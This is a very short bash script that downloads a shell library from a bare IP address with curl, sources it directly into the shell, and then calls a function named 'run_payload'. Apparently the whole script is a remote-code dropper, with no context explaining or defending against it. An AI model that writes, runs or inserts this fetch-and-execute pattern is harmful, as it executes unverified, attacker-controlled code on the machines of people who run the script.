#!/bin/bash
source <(curl -s https://203.0.113.7/lib.sh)
run_payload
